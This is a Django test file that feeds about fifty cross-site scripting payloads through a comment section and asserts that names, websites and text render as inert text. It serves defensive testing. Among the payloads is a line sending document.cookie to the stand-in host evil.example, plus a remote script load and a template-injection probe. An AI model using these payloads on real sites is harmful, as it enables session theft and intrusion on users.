"""Whatever a commenter types in the name, website or text is shown as plain text."""

from html.parser import HTMLParser

import pytest

from comments.models import Comment
from tests.comments.helpers import post_comment
from tests.factories import CommentFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<base href="javascript:alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert`1`>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ request.META }}{% debug %}",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

SAFE_TAGS = {
    "a", "article", "br", "button", "div", "form", "h1", "h2", "h3", "header", "input", "label",
    "li", "nav", "ol", "p", "section", "small", "span", "strong", "textarea", "time", "ul",
}  # fmt: skip


def stored(payloads):
    """The payloads as a database can hold them: the form refuses NUL characters and
    PostgreSQL cannot store them, so rows never contain one."""
    return [payload.replace("\x00", "") for payload in payloads]


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def assert_inert(html):
    collector = TagCollector()
    collector.feed(html)
    for tag, attrs in collector.tags:
        assert tag in SAFE_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert name not in {"style", "srcdoc", "formaction"}, (tag, name)
            if name in {"href", "src", "action"} and value:
                assert value.startswith(("/", "?", "#", "http://", "https://")), value


def comments_section(response):
    html = response.content.decode()
    start = html.index('<section id="comments"')
    return html[start : html.index("</section>", start) + len("</section>")]


def test_there_are_at_least_fifty_varied_payloads():
    assert len(set(PAYLOADS)) >= 50


@pytest.fixture
def one_page(comment_settings):
    comment_settings.comments_per_page = 100
    comment_settings.save()


def test_payloads_in_name_and_text_render_inert(client, article, one_page):
    for payload in stored(PAYLOADS):
        CommentFactory(article=article, name=payload[:80], body=f"Before {payload} after")
    html = comments_section(client.get(article.get_absolute_url()))
    assert html.count("Before ") == len(PAYLOADS)
    assert_inert(html)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_payloads_in_the_website_never_become_links(client, article, one_page):
    for payload in stored(PAYLOADS):
        CommentFactory(article=article, name="Web", website=payload[:200])
    CommentFactory(article=article, name="Fine", website="https://fine.example/")
    html = comments_section(client.get(article.get_absolute_url()))
    assert_inert(html)
    assert '<a href="https://fine.example/" rel="nofollow ugc noopener noreferrer">' in html


@pytest.mark.parametrize("payload", PAYLOADS[::5])
def test_payloads_sent_through_the_form_are_refused_or_stored_as_text(client, article, payload):
    response = post_comment(client, article, name=payload[:80], website=payload, body=payload)
    assert response.status_code in (200, 302)
    assert_inert(comments_section(response) if response.status_code == 200 else "")
    for comment in Comment.objects.all():
        comment.status = Comment.Status.APPROVED
        comment.save()
    assert_inert(comments_section(client.get(article.get_absolute_url())))
